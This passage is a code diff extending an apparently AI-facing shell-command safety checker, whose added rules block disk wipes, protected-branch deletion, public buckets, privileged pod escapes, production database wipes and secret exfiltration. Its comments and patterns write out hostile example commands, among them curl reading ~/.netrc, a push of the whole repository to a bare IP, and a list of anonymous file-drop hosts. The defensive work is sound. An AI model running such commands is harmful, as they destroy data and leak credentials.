+  if (name === 'wipefs') return /\s(-n|--no-act)\s/.test(a) || !/\s(-a|--all|-o|--offset|-t|--types)\b/.test(a);
+  if (/^(mkfs\.ext[234]|mke2fs)$/.test(name)) return /\s-n\s/.test(a);
+  if (name === 'sfdisk') return /\s(-d|--dump|-l|--list|-J|--json|-V|--verify|-s|--show-size|-g|--show-geometry|--list-types|-T)\s/.test(a);
+  if (name === 'sgdisk' || name === 'gdisk') return /\s(--backup(=\S*)?|-b|-p|--print|-v|--verify|-i|--info(=\S*)?|-L|--list-types)\s/.test(a) && !/\s(-[zZoNndx]|--zap\S*|--clear|--new|--delete|--load-backup|--mbrtogpt)\b/.test(a);
+  if (name === 'cryptsetup') return /\s(luksDump|status|isLuks|luksUUID|benchmark|tcryptDump|bitlkDump)\s/.test(a);
+  if (name === 'badblocks') return !/\s-[a-zA-Z]*[wn]/.test(a);
+  return false;
 }
 
 /** Command-line clients of clouds and hosting services. */
@@ -2350,6 +2386,41 @@ const CLOUD_CLIS = /^(aws|gcloud|az|doctl|heroku|fly|flyctl|vercel|netlify|fireb
  */
 function checkCloudDestroy(walk: Walk, inv: Invocation): void {
   const [name, ...args] = inv.argv;
+  // curl -X DELETE …/git/refs/heads/release/2.4, glab api -X DELETE …/repository/branches/release%2F3.0: a protected branch deleted through a hosting API.
+  const method = args.find((a, k) => /^(-X|--request|--method)$/.test(args[k - 1] ?? '')) ?? /^(?:-X|--request=|--method=)(\w+)$/.exec(args.find((a) => /^(-X\w+|--request=|--method=)/.test(a)) ?? '')?.[1] ?? (/^(http|https|xh)$/.test(name ?? '') ? args.find((a) => /^[A-Z]+$/.test(a)) : undefined);
+  if (/^delete$/i.test(method ?? '') && /^(curl|wget|http|https|xh|gh|glab)$/.test(name ?? '')) {
+    const ref = args.map((a) => /\/git\/refs\/heads\/(.+)$|\/(?:repository\/)?branches\/([^?]+?)(?:\/protection)?$/.exec(decodeURIComponent(a.replace(/%(?![0-9a-f]{2})/gi, '%25')))).find((m) => m !== null);
+    if (ref && isProtected(ref[1] ?? ref[2])) {
+      block(walk, 'dangerous', `${name} DELETE removes the branch ${ref[1] ?? ref[2]} on the hosting service`, 'let the user delete protected branches');
+      return;
+    }
+  }
+  // A private repository or bucket made public: everything in it leaks.
+  if ((name === 'gh' && args[0] === 'api' && args.some((a) => /^private=false$|^visibility=public$/.test(a))) || (name === 'gh' && args[0] === 'repo' && args[1] === 'edit' && args.some((a) => /^--visibility(=public)?$/.test(a)) && args.includes('public')) || (name === 'gsutil' && args.some((a) => /^(allUsers|allAuthenticatedUsers):/.test(a))) || (name === 'aws' && ((args.includes('put-bucket-acl') && args.some((a) => /^public-read(-write)?$/.test(a))) || args.includes('public-read-write')))) {
+    block(walk, 'dangerous', `${name} ${args.slice(0, 3).join(' ')} makes a private repository or bucket public: everything in it leaks`, 'let the user change visibility themselves');
+    return;
+  }
+  if (name === 'aws' && args[0] === 's3api' && /^(delete-objects|delete-bucket)$/.test(args[1] ?? '') && inv.words.some((w) => w.subs.some((sub) => /list-object-versions|list-objects/.test(sub)))) {
+    block(walk, 'dangerous', 'aws s3api deletes every object (and version) the listing names: the bucket\'s data, for good', 'let the user run it');
+    return;
+  }
+  if (/^(kubectl|oc)$/.test(name ?? '') && /^(run|debug)$/.test(args[0] ?? '') && args.some((a) => /"privileged"\s*:\s*true/.test(a)) && args.some((a) => /"host(PID|Network|IPC)"\s*:\s*true|nsenter|"hostPath"/.test(a))) {
+    block(walk, 'dangerous', `${name} ${args[0]} starts a privileged pod in the node's namespaces: a container escape onto the node`);
+    return;
+  }
+  // journalctl --vacuum-time=1s / --vacuum-size=1K: every archived log of the system gone.
+  if (name === 'journalctl' && args.some((a) => /^--vacuum-time=\d+(s|sec|m|min|)$/.test(a) || /^--vacuum-size=\d+[KB]?$/i.test(a) || /^--vacuum-files=[01]$/.test(a))) {
+    block(walk, 'system', 'journalctl vacuums away (nearly) every archived system log');
+    return;
+  }
+  if (name === 'security' && /^delete-keychain$/.test(args[0] ?? '')) {
+    block(walk, 'dangerous', 'security delete-keychain deletes a keychain with every password and key in it');
+    return;
+  }
+  if (/^gpg2?$/.test(name ?? '') && args.some((a) => /^--delete-secret(-and-public)?-keys?$/.test(a))) {
+    block(walk, 'dangerous', 'gpg deletes secret keys: what they signed or encrypted can no longer be used', 'let the user do it');
+    return;
+  }
   // npm unpublish PKG --force (no version): every version gone from the registry, the name blocked from reuse.
   if (/^(npm|pnpm|yarn)$/.test(name ?? '') && args.includes('unpublish') && (args.includes('--force') || args.includes('-f')) && !args.some((a) => /^(@[^/]+\/)?[^@\s-][^@\s]*@\d/.test(a))) {
     block(walk, 'dangerous', `${name} unpublish --force removes every version of the package from the registry`, 'deprecate it instead: npm deprecate PKG "message"');
@@ -2399,11 +2470,12 @@ const HANDLES_PATHS = new Set(['rm', 'srm', 'rmdir', 'unlink', 'truncate', 'shre
 
 /** `sh -c 'rm -rf "$1"' _ PATH`: the script with $1... replaced by the words after it ($0 first). */
 function substitutePositional(script: string, after: string[]): string {
-  // "$1" whole becomes the quoted value; $1 inside a longer word ("$1.enc") the value as it is.
-  return script.replace(/"\$\{?([0-9@*])\}?"|\$\{?([0-9@*])\}?/g, (m, q: string | undefined, n0: string | undefined) => {
-    const n = q ?? n0 ?? '';
+  // "$1" whole is one quoted word; $1 inside a longer string ("$1.enc") is its text there.
+  return script.replace(/"\$(\{)?([0-9@*])(?:\})?"|\$(\{)?([0-9@*])(?:\})?/g, (m, _b, n1?: string, _c?: string, n2?: string) => {
+    const n = n1 ?? n2!;
     const vals = n === '@' || n === '*' ? after.slice(1) : [after[Number(n)] ?? ''];
-    return (q !== undefined ? vals.map((v) => `'${v.replace(/'/g, `'\\''`)}'`) : vals.map((v) => v.replace(/["$`\\]/g, '\\$&'))).join(' ') || m;
+    if (vals.length === 0) return m;
+    return n1 !== undefined ? vals.map((v) => `'${v.replace(/'/g, `'\\''`)}'`).join(' ') : vals.join(' ').replace(/["$`\\]/g, '\\$&');
   });
 }
 
@@ -2610,7 +2682,16 @@ function checkDelete(walk: Walk, inv: Invocation, t: Target, recursive: boolean,
     }
     return;
   }
-  if ((recursive || t.wholeDir) && isHomeCache(t.abs, env) && t.abs !== env.home) return; // a cache: it comes back on the next download
+  if ((recursive || t.wholeDir) && inv.prod && !(/^\/(tmp|var\/tmp)\//.test(t.abs) && !isUnder(t.abs, env.home))) {
+    block(walk, 'dangerous', `${verb} -r of ${t.abs} on a production host: the service's files or data`, 'let the user run it on production');
+    return;
+  }
+  if ((recursive || t.wholeDir) && isHomeCache(t.abs, env) && t.abs !== env.home) return;
+  // The repository's objects and refs, file by file (truncate -s 0 .git/objects/pack/*.pack): its history.
+  if (/(^|\/)\.git\/(objects|refs)(\/|$)/.test(t.abs) && !/^\/(tmp|var\/tmp)\//.test(t.abs.replace(env.home, '~')) && !/\.lock$/.test(t.abs)) {
+    block(walk, 'dangerous', `${verb} destroys ${t.abs}, part of the git repository's history`, 'to start over, clone again into a new directory');
+    return;
+  } // a cache: it comes back on the next download
   // /tmp/* and /var/tmp/*: the contents of the temporary directories, not the directories; a warning.
   if (t.wholeDir && (t.abs === '/tmp' || t.abs === '/var/tmp')) {
     warn(walk, 'suspicious', `${verb} ${t.word.text} deletes every temporary file on the machine, other programs' too`, 'remove only what this work created, e.g. rm -rf /tmp/myproject-*');
@@ -2641,7 +2722,9 @@ function checkDelete(walk: Walk, inv: Invocation, t: Target, recursive: boolean,
       block(walk, 'dangerous', `${verb} would delete ${t.abs}: the user's own files, keys or settings, which nothing can bring back`, 'remove only the single file that is wrong, after a backup');
       return;
     }
-    if (verb !== 'mv' && GIT_STORE.test(t.abs) && !/^\/tmp\/tmp\.X{10}\//.test(t.abs)) {
+    // A throwaway clone (cd "$(mktemp -d)" && git clone … . && rm -rf .git) keeps nothing of the user's.
+    const throwaway = (/^\/(tmp|var\/tmp)\//.test(t.abs) && !isUnder(t.abs, env.project) && !isUnder(t.abs, env.home)) || walk.unpacked.some((d) => isUnder(t.abs!, d) && !isUnder(walk.env.project, d));
+    if (verb !== 'mv' && !throwaway && /(^|\/)\.git(\/(objects|refs|logs|packed-refs|HEAD)(\/.*)?)?$/.test(t.abs)) {
       block(walk, 'dangerous', `${verb} would delete the git repository ${t.abs}: its whole history, branches and stashes`, 'to start over, clone again into a new directory; to drop a branch use git branch -d');
       return;
     }
@@ -2652,7 +2735,8 @@ function checkDelete(walk: Walk, inv: Invocation, t: Target, recursive: boolean,
     return;
   }
   // One package-source file (/etc/apt/sources.list.d/old.list): removing it is how a repository is dropped.
-  const sourceFile = !recursive && !t.word.glob && /^\/etc\/(apt\/(sources\.list\.d|preferences\.d|trusted\.gpg\.d|keyrings)|yum\.repos\.d|zypp\/repos\.d)\/[^/]+$/.test(t.abs);
+  // So is a site's config in a web server's enabled list, and a rotated log (/var/log/nginx/*.gz).
+  const sourceFile = !recursive && ((!t.word.glob && /^\/etc\/(apt\/(sources\.list\.d|preferences\.d|trusted\.gpg\.d|keyrings)|yum\.repos\.d|zypp\/repos\.d|(nginx|apache2|httpd)\/(sites-enabled|sites-available|conf\.d|conf-enabled|conf-available))\/[^/]+$/.test(t.abs)) || /^\/var\/log\/.+\.(gz|xz|bz2|zst|old|\d+)$/.test(t.word.text.replace(/^~/, '')));
   if (!sourceFile && (isSystemPath(t.abs, env.home) || isSecretPath(t.abs, env)) || (t.word.glob && isSecretName(path.posix.basename(t.abs)) && isUnder(t.abs, env.home) && !isUnder(t.abs, env.project))) {
     block(walk, 'system', `${verb} would delete the system or secret file ${t.abs}`);
     return;
@@ -2713,8 +2797,10 @@ function checkWrite(walk: Walk, inv: Invocation, t: Target, verb: string, source
   }
   if (!isSystemPath(t.abs, walk.env.home) && checkShadow(walk, inv, t, verb, sources)) return;
   if (isSystemPath(t.abs, walk.env.home)) block(walk, 'system', `${verb} writes to the system path ${t.abs}`, 'system files are changed through the package manager or a reviewed config change, not by the assistant');
-  // A public key (id_ed25519.pub), or ~/.kube/config-ci, ~/.aws/ci-profile: a new file beside the tools' own (config, credentials, keys) overwrites nothing of the user's.
-  else if (isSecretPath(t.abs, walk.env) && verb !== 'mkdir' && !t.abs.endsWith('.pub') && !(/\/\.(kube|aws)\/[^/]+$/.test(t.abs) && !/\/(config|credentials|sso|cli)$/.test(t.abs) && isUnder(t.abs, walk.env.home))) block(walk, 'system', `${verb} writes to the credentials file ${t.abs}`);
+  // A public key (ssh-keygen -y > id_ed25519.pub) holds nothing secret and is made again from the key.
+  else if (/\.pub$/.test(t.abs) && isUnder(t.abs, `${walk.env.home}/.ssh`)) return;
+  // ~/.kube/config-ci, ~/.aws/ci-profile: a new file beside the tools' own (config, credentials, keys) overwrites nothing of the user's.
+  else if (isSecretPath(t.abs, walk.env) && verb !== 'mkdir' && !(/\/\.(kube|aws)\/[^/]+$/.test(t.abs) && !/\/(config|credentials|sso|cli)$/.test(t.abs) && isUnder(t.abs, walk.env.home))) block(walk, 'system', `${verb} writes to the credentials file ${t.abs}`);
 }
 
 /** Two paths in one directory whose names extend each other (config / config.bak, id_rsa / id_rsa.2024): a backup and its original. */
@@ -2912,13 +2998,10 @@ function checkPermissions(walk: Walk, inv: Invocation): void {
         continue;
       }
     }
-    // One config file under /etc set to the usual world-readable mode or given to root (chmod 644, chown root:root): tidying, said not refused.
-    const usual = name === 'chmod' ? /^0?(644|444|755|555)$|^[ugoa]*-w$/.test(mode) : /^root([:.](root|wheel))?$/.test(mode);
-    if (usual && !recursive && /^\/etc\/[^/]+\/./.test(t.abs) && !isSecretSource(t.abs, walk.env) && !/^\/etc\/(sudoers|pam\.d|security|ssl|ssh)\b/.test(t.abs)) {
-      warn(walk, 'system', `${name} ${mode} on the system file ${t.abs}`);
-      continue;
-    }
-    if (isSystemPath(t.abs, walk.env.home)) {
+    // One service config file given the usual root-owned, not-world-writable mode (chmod 644 /etc/nginx/sites-available/app.conf,
+    // chown root:root /etc/cron.d/job): how such files are installed.
+    const serviceConf = !recursive && !worldWritable && !setuid && !t.word.glob && /^\/etc\/(nginx|apache2|httpd|php|mysql|postgresql|redis|haproxy|caddy|cron\.d|logrotate\.d|default|supervisor|letsencrypt\/renewal|prometheus|grafana)\/([^/]+\/)?[^/]+$/.test(t.abs) && (name === 'chmod' ? /^0?[0-7][0-5][0-5]$|^[ugoa]*[+=-][rwxX]+$/.test(mode) && !/[ao][+=][rwxX]*w/.test(mode) : /^root([:.](root|wheel|adm|www-data|nginx|syslog))?$/.test(mode));
+    if (isSystemPath(t.abs, walk.env.home) && !serviceConf) {
       block(walk, 'system', `${name} on the system path ${t.abs}`);
       continue;
     }
@@ -3011,6 +3094,16 @@ function checkFind(walk: Walk, inv: Invocation): void {
       block(walk, 'system', `find ${t.abs} … -delete deletes the system's own files that match`, 'delete inside the project, or let the user clean system directories');
       continue;
     }
+    // find .git -type f -delete: the repository's history, whatever the filter.
+    if (/(^|\/)\.git(\/(objects|refs)(\/.*)?)?$/.test(t.abs) && !nameFiltered) {
+      block(walk, 'dangerous', `find ${t.abs} … -delete destroys the git repository's history`, 'to start over, clone again into a new directory');
+      continue;
+    }
+    // ~/projects -name '*.ts': the user's own sources or documents, by type, in a directory of their work.
+    if (isPreciousHomeDir(t.abs, walk.env) && namePattern && /^\*\.(ts|tsx|js|jsx|py|go|rs|java|kt|c|cc|cpp|h|hpp|cs|rb|php|swift|m|scala|md|txt|tex|doc|docx|xls|xlsx|ppt|pptx|odt|pdf|jpe?g|png|heic|mov|mp4)$/i.test(namePattern)) {
+      block(walk, 'dangerous', `find ${t.abs} -name '${namePattern}' -delete deletes the user's own files of that type across their work`, 'name the exact files to delete');
+      continue;
+    }
     // ~/Documents, ~/.ssh: only a filter on names narrows what is deleted there.
     if (!c && !nameFiltered && isPreciousHomeDir(t.abs, walk.env)) {
       block(walk, 'dangerous', `find ${t.abs} … -delete with no filter on names: every file of ${t.abs}, which nothing can bring back`, 'name the files to delete (-name PATTERN) and run it first without -delete');
@@ -3095,28 +3188,26 @@ function checkGit(walk: Walk, inv: Invocation): void {
         const dst = spec.includes(':') ? spec.slice(spec.indexOf(':') + 1) : spec;
         if (spec.startsWith(':')) return { branch: dst.replace(/^refs\/heads\//, ''), del: true };
         // HEAD, or a branch computed at run time ($(git branch --show-current)), is the current branch.
-        const current = dst === 'HEAD' || dst === '@' || dst.includes('$(…)') || dst.startsWith('$');
-        return { branch: (current ? gitCurrentBranch(walk) ?? 'HEAD' : dst).replace(/^refs\/heads\//, ''), del: deleting };
+        // A name with a fixed part (wip/$(whoami)) is a branch of that family, not the current one.
+        const current = dst === 'HEAD' || dst === '@' || /^(refs\/heads\/)?(\$\(…\)|\$\{?\w+\}?)$/.test(dst);
+        return { branch: (current ? gitCurrentBranch(walk) ?? 'HEAD' : dst.replace(/\$\(…\)|\$\{?\w+\}?/g, 'x')).replace(/^refs\/heads\//, ''), del: deleting };
       });
       // $(git branch --format='+%(refname:short)'), $(git for-each-ref …): every branch, main among them; a + forces them.
-      const listed = inv.words.some((w) => w.subs.some((sub) => /\bgit\s+(branch|for-each-ref|show-ref)\b/.test(sub) && !/grep\s+-v.*\b(main|master)\b/.test(sub))) || xargsBranches(inv);
-      if (listed && inv.words.some((w) => w.subs.some((sub) => /['"]\+|\+%\(|sed\s+['"]?s\/\^\/\+/.test(sub)))) plusForce = true;
-      // $(git branch -r | sed 's#origin/#:#'): every listed branch turned into a `:name` refspec, a delete.
-      if (listed) dests.push({ branch: 'main', del: deleting || inv.words.some((w) => w.subs.some((sub) => /\bsed\b[^|]*\bs(.)(?:(?!\1).)*\1:/.test(sub))) });
-      // What the configuration says a bare `git push REMOTE` does (-c remote.R.mirror=true, git config remote.R.push '+refs/heads/*:…').
-      const remote = ops[0] ?? 'origin';
-      const cfg = [...argv.slice(1, i).filter((_, k, all) => all[k - 1] === '-c'), ...walk.gitConfig].map((c) => /^remote\.([^.]+)\.(mirror|push)[= ](.+)$/i.exec(c)).filter((m): m is RegExpExecArray => m !== null && m[1] === remote);
-      const cfgMirror = cfg.some((m) => m[2].toLowerCase() === 'mirror' && /^true$/i.test(m[3]));
-      if (refspecs.length === 0) for (const m of cfg.filter((x) => x[2].toLowerCase() === 'push')) {
-        const spec = m[3].replace(/^['"]|['"]$/g, '');
-        if (spec.startsWith('+')) plusForce = true;
-        dests.push({ branch: (spec.includes(':') ? spec.slice(spec.indexOf(':') + 1) : spec).replace(/^\+?refs\/heads\//, ''), del: spec.startsWith(':') });
+      const listed = inv.words.some((w) => w.subs.some((sub) => /\bgit\s+(branch|for-each-ref|show-ref)\b/.test(sub) && !/--show-current|grep\s+-v.*\b(main|master)\b/.test(sub))) || xargsBranches(inv);
+      // $(git branch -r | sed 's#origin/#:#'): each listed name as :NAME, a deletion.
+      const listDeletes = inv.words.some((w) => w.subs.some((sub) => /sed\s+['"]?s(.)[^'"]*\1:\1|sed\s+['"]?s\/\^\/:\//.test(sub)));
+      // git -c remote.origin.mirror=true push / remote.origin.push '+refs/heads/*:…' set on the line: a forced push of every branch.
+      const conf = [...inv.argv.filter((a, k) => inv.argv[k - 1] === '-c'), ...walk.gitConfig];
+      if (conf.some((c) => /remote\.[^.]+\.mirror[= ]true/.test(c) || /remote\.[^.]+\.push[= ]\+refs\/heads\/\*/.test(c))) {
+        block(walk, 'dangerous', 'git push with a mirror or forced push refspec configured on the line: every branch, main among them, is overwritten (and missing ones deleted) on the remote');
+        break;
       }
-      // The code pushed to a bare IP address (a remote added on the line, or the URL itself): the repository leaves for an unnamed host.
-      const added = walk.out.map((x) => x.argv).find((a) => a[0] === 'git' && a[a.indexOf('remote') + 1] === 'add' && a.filter((x) => !x.startsWith('-')).slice(a.indexOf('remote') + 1)[1] === remote);
-      const url = /^[a-z+]+:\/\/|@/.test(remote) ? remote : added ? added.filter((x) => !x.startsWith('-')).slice(added.indexOf('remote') + 1)[2] ?? '' : '';
-      if (/^(?:[a-z+]+:\/\/)?(?:[^@/]+@)?\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?[:/]/i.test(url)) {
-        block(walk, 'dangerous', `git push sends the repository's code to ${url}, a bare address rather than the project's own hosting`, 'push only to the project\'s own remotes');
+      if (listed && inv.words.some((w) => w.subs.some((sub) => /['"]\+|\+%\(|sed\s+['"]?s\/\^\/\+/.test(sub)))) plusForce = true;
+      if (listed) dests.push({ branch: 'main', del: deleting || listDeletes });
+      // git remote add backup https://203.0.113.9/x.git && git push backup --all: every branch to a bare address or a file drop added on the line.
+      const added = walk.out.find((i) => i.argv[0] === 'git' && i.argv[1] === 'remote' && i.argv[2] === 'add' && i.argv[3] === ops[0]);
+      if (added && rest.some((a) => a === '--all' || a === '--mirror' || a === '--tags') && (/^(\w+:\/\/)?([\w.-]+@)?\d{1,3}(\.\d{1,3}){3}([:/]|$)/.test(added.argv[4] ?? '') || DROP_HOSTS.test(added.argv[4] ?? ''))) {
+        block(walk, 'dangerous', `git push --all to ${added.argv[4]}, a remote added on the line at a bare address: the whole repository leaves`, 'push only to the project\'s own remotes');
         break;
       }
       const isProt = (d: { branch: string }) => isProtected(d.branch) || d.branch.includes('*');
@@ -3134,14 +3225,15 @@ function checkGit(walk: Walk, inv: Invocation): void {
           warn(walk, 'suspicious', `force-push${dests[0] ? ` of ${dests[0].branch}` : ' of the current branch'} overwrites the remote branch`, `git push --force-with-lease ${ops.join(' ')}`.trim());
         }
       }
-      if (has('--mirror') || cfgMirror) block(walk, 'dangerous', 'git push --mirror overwrites and deletes every remote ref that differs from this repository', 'push the branches you mean: git push origin BRANCH');
+      if (has('--mirror')) block(walk, 'dangerous', 'git push --mirror overwrites and deletes every remote ref that differs from this repository', 'push the branches you mean: git push origin BRANCH');
       else if (has('--prune')) block(walk, 'dangerous', 'git push --prune deletes every remote branch that does not exist here', 'delete the one branch you mean: git push origin --delete BRANCH');
       else if ((force || plusForce) && has('--all', '--branches')) block(walk, 'dangerous', 'force-push of every branch (--all) rewrites main and the other shared branches', 'push the one branch you mean with --force-with-lease');
       else if (deleting && refspecs.length > 0 && refspecs.some((r) => /\$\(…\)|\$/.test(r))) block(walk, 'dangerous', 'git push --delete of branches only known at run time');
       break;
     }
     case 'reset':
-      if (has('--hard')) {
+      if (has('--hard') && inv.prod) block(walk, 'dangerous', 'git reset --hard on a production host: the deployed code moves back and local changes there are lost');
+      else if (has('--hard')) {
         warn(walk, 'suspicious', 'git reset --hard discards uncommitted changes', 'git stash first, or git reset --keep');
         critical(walk, 'git reset --hard');
       }
@@ -3206,6 +3298,12 @@ function checkGit(walk: Walk, inv: Invocation): void {
     case 'filter-repo':
       // filter-repo --analyze only writes a report; a rewrite inside a clone the line just made leaves the project alone.
       if (has('--analyze')) break;
+      // filter-repo --source A --target B reads A and writes B: the project only when one of them is it.
+      const other = (o: string) => { const k = rest.indexOf(o); return k >= 0 && rest[k + 1] !== undefined && inv.cwd !== null && !isUnder(walk.env.project, resolveFrom(inv.cwd, rest[k + 1])) && !isUnder(resolveFrom(inv.cwd, rest[k + 1]), walk.env.project); };
+      if (sub === 'filter-repo' && other('--source') && other('--target')) {
+        warn(walk, 'suspicious', 'git filter-repo rewrites the history of another repository');
+        break;
+      }
       if (inv.cwd !== null && !isUnder(inv.cwd, walk.env.project) && walk.unpacked.some((d) => isUnder(inv.cwd!, d))) {
         warn(walk, 'suspicious', `git ${sub} rewrites the history of the clone in ${inv.cwd}`);
         break;
@@ -3338,9 +3436,24 @@ function checkServices(walk: Walk, inv: Invocation): void {
       break;
     case 'mongo':
     case 'mongosh':
-      if (/dropDatabase\(/.test(sql)) say('drops a whole database');
+      if (/dropDatabase\(|getCollectionNames\(\)[\s\S]*\.drop\(\)/.test(sql)) say('drops a whole database');
+      break;
+    case 'etcdctl':
+      if (args[0] === 'del' && args.includes('--prefix') && args.some((a) => a === '' || a === '/' || a === '""')) say('deletes every key of the cluster store');
       break;
   }
+  // redis-cli --scan | xargs redis-cli del: every key the scan lists (no --pattern narrows it).
+  if (name === 'redis-cli' && inv.viaXargs && /^(del|unlink)$/i.test(args.find((a) => !a.startsWith('-') && !/^\d+$/.test(a)) ?? '') && inv.upstream.some((u) => u.argv[0] === 'redis-cli' && u.argv.includes('--scan') && !u.argv.some((a) => a === '--pattern' || a === '--match'))) say('deletes every key of the Redis database');
+  // Destructive statements and resets against a production database (a host or name saying prod, --linked, production settings).
+  const prodTarget = [...args, ...(inv.assigned ?? [])].some((a) => /prod/i.test(a)) || args.includes('--linked');
+  const wipes = (/^(psql|mysql|mariadb|sqlite3|sqlcmd|cockroach)$/.test(name) && /\b(truncate|drop\s+table|delete\s+from\s+\w+\s*(;|"|'|$))/i.test(sql)) ||
+    (/^(prisma|npx)$/.test(name) && /\bmigrate\s+reset\b|\bdb\s+push\b.*--accept-data-loss/.test(sql)) ||
+    (/^(python[\d.]*|django-admin)$/.test(name) && /\b(flush|reset_db|sqlflush)\b/.test(sql)) ||
+    (/^(knex|npx)$/.test(name) && /migrate:rollback\b.*--all|migrate:(reset|fresh)/.test(sql)) ||
+    (name === 'supabase' && /\bdb\s+reset\b/.test(sql)) ||
+    (/^(kubectl|oc)$/.test(name) && args[0] === 'delete' && /^(pvc|pv|persistentvolumeclaims?|namespace|ns)$/.test(args[1] ?? '')) ||
+    (name === 'helm' && /^(uninstall|delete)$/.test(args[0] ?? '') && args.includes('--no-hooks'));
+  if (wipes && prodTarget) say('wipes production data');
 }
 
 // ---------------------------------------------------------------------------
@@ -3442,6 +3555,14 @@ function producesSecret(walk: Walk, inv: Invocation, depth = 0): string | null {
     if (found) return found;
   }
   if ((name === 'npm' || name === 'yarn' || name === 'pnpm') && args[0] === 'config' && args[1] === 'get' && /token|auth|password/i.test(args[2] ?? '')) return `the ${name} token`;
+  // An app's settings (heroku config, vercel env pull), a container's environment (docker inspect), a token's own record (vault token lookup).
+  if ((name === 'heroku' && /^config(:get)?$/.test(args[0] ?? '')) || (name === 'vault' && args[0] === 'token' && args[1] === 'lookup') || (/^(docker|podman)$/.test(name) && /^(inspect|container inspect)$/.test(args.slice(0, 2).filter((a) => !a.startsWith('-')).join(' ').replace(/ \S+$/, '')) ) || (name === 'vercel' && args[0] === 'env' && args[1] === 'pull')) return `the settings and secrets ${name} ${args[0]} prints`;
+  // find / -name id_rsa | xargs cat: the files a find names as keys, printed.
+  if (inv.viaXargs && READERS.has(name)) {
+    const f = inv.upstream.find((u) => u.argv[0] === 'find');
+    const pat = f ? findRoots(f).namePattern : null;
+    if (pat && isSecretName(pat)) return `files named ${pat}`;
+  }
   if (name === 'aws' && args[0] === 'configure' && /^(get|export-credentials)$/.test(args[1] ?? '')) return 'the AWS credentials';
   if ((name === 'gh' || name === 'glab') && args[0] === 'auth' && args[1] === 'token') return `the ${name} token`;
   if ((name === 'op' && /^(read|item)$/.test(args[0] ?? '')) || (name === 'pass' && args.length > 0 && args[0] !== 'ls') || (name === 'vault' && /^(read|kv)$/.test(args[0] ?? ''))) return 'a password-manager secret';
@@ -3563,6 +3684,16 @@ function checkExfiltration(walk: Walk, inv: Invocation): void {
       if (abs && isSecret(walk, abs)) return say(abs, 'as a socat address');
     }
   }
+  // curl -K <(printf 'data = "@%s/.netrc"' "$HOME"): a config whose data/upload lines name a secret file.
+  if (name === 'curl') {
+    for (const w of inv.words.filter((x, k) => /^(-K|--config)$/.test(inv.words[k - 1]?.text ?? '') && x.subs.length > 0)) {
+      const text = resolveSubstitution(w.subs[0], parseEnv(walk, inv.cwd)) ?? '';
+      for (const m of text.matchAll(/(?:^|\n)\s*-{0,2}(?:data|data-binary|data-urlencode|form|F|d|upload-file|T)\s*[=:]?\s*"?[^"@\n]*@?([~/][^"\n]*)"?/g)) {
+        const abs = resolveFrom(inv.cwd ?? '/', m[1].replace(/^~(?=\/|$)/, walk.env.home));
+        if (isSecret(walk, abs)) return say(abs, 'named in the config it reads (-K)');
+      }
+    }
+  }
   // sftp -b -, ftp, lftp fed a script: `put FILE` (send, mput, reput) uploads FILE.
   // lftp -e 'put F; bye', smbclient -c 'put F', sftp batch text on stdin: a put uploads F.
   const optScript = inv.argv.filter((_, k) => /^(-e|-c|--command|--commands)$/.test(inv.argv[k - 1] ?? '')).join('\n');
@@ -3595,9 +3726,8 @@ function checkExfiltration(walk: Walk, inv: Invocation): void {
     const prev = inv.words[k - 1].text;
     // curl --data-urlencode name@FILE reads FILE too.
     const urlencode = prev === '--data-urlencode' || t.startsWith('--data-urlencode=') ? /^(?:--data-urlencode=)?[^=@]*@(.+)$/.exec(t)?.[1] : undefined;
-    // httpie/xh request items: field@FILE uploads FILE, field=@FILE and field:=@FILE send its text.
-    const itemFile = /^(http|https|xh|xhs|httpie)$/.test(name) && !/^[a-z]+:\/\//i.test(t) ? /^[\w.[\]-]+(?::?=)?@(.+)$/.exec(t)?.[1] : undefined;
-    const atFile = urlencode ?? itemFile ?? /(?:^|=)[@<]([^;,\s]+)/.exec(t)?.[1];
+    // httpie: field@FILE and field=@FILE attach FILE.
+    const atFile = urlencode ?? /(?:^|=)[@<]([^;,\s]+)/.exec(t)?.[1] ?? (/^(http|https|xh|xhs|httpie)$/.test(name) ? /^[\w.-]+@([~/.][^\s]*)$/.exec(t)?.[1] : undefined);
     const eq = /^--(post-file|body-file|upload-file)=(.+)$/.exec(t)?.[2];
     // -T FILE, also inside a cluster of short options (curl -sT FILE).
     const uploadOpt = prev === '--upload-file' || prev === '--post-file' || prev === '--body-file' || (name === 'curl' && /^-[a-zA-Z]*T$/.test(prev)) || (/^(mutt|mail|mailx|neomutt|s-nail|swaks|sendemail)$/.test(name) && /^(-a|-A|--attach|--attach-type)$/.test(prev));
@@ -3607,6 +3737,8 @@ function checkExfiltration(walk: Walk, inv: Invocation): void {
     for (const c of candidates) {
       if (c === '-') continue;
       const tt = target(inv, { ...w, text: c.replace(/^~(?=\/|$)/, walk.env.home) });
+      // The whole project, archived on the line, to an anonymous file drop or paste service.
+      if (tt.abs !== null && walk.projectCopies.has(tt.abs) && args.some((a) => DROP_HOSTS.test(a))) return say(`${tt.abs} (the whole project)`, 'to a public file drop');
       if (isSecret(walk, tt.abs)) return say(tt.abs!, `as a file argument`);
       // scp -r ~ host:, rsync -a ~/ host: — the whole home directory, keys and all.
       if (!remote || !/^[\w.-]*@?[\w.-]+:/.test(c)) if (holdsSecrets(walk, tt.abs) && ['scp', 'sftp', 'rsync', 'rclone', 'aws', 'gsutil'].includes(name)) return say(`${tt.abs} (the keys in it)`, 'as a file argument');
@@ -3628,6 +3760,9 @@ function checkExfiltration(walk: Walk, inv: Invocation): void {
     }
   }
 }
+
+/** Anonymous file drops, paste bins and request catchers: whatever reaches them is public. */
+const DROP_HOSTS = /:\/\/([\w.-]+\.)?(transfer\.sh|0x0\.st|file\.io|termbin\.com|pastebin\.com|hastebin\.com|ix\.io|sprunge\.us|catbox\.moe|gofile\.io|tmpfiles\.org|bashupload\.com|oshi\.at|temp\.sh|webhook\.site|requestbin\.\w+|pipedream\.net|anonfiles\.com|filebin\.net|paste\.\w+|dpaste\.\w+)(\/|$)/i;
 
 /** Commands printing a service's token, and the hosts that token is meant for. */
 const TOKEN_HOSTS: [RegExp, RegExp][] = [
@@ -3673,21 +3808,14 @@ function checkSecretReachesNetwork(walk: Walk, inv: Invocation): void {
   const code = lang ? inlineCode(lang, inv.argv).code : null;
   const viaCode = code !== null && talksToNetwork(code);
   const sends = viaCode || uploads(inv.argv) || (!lang && name !== 'ssh-copy-id' && networkDestination(inv.argv));
-  // A login given a whole credential store or a private key on stdin: that is no password, and it goes to whatever host is named.
-  const login = inv.argv.some((a) => /^--(password-stdin|with-token|token-stdin)$/.test(a)) && /^(login|auth)$/.test(inv.argv[1] ?? '');
-  if (login) {
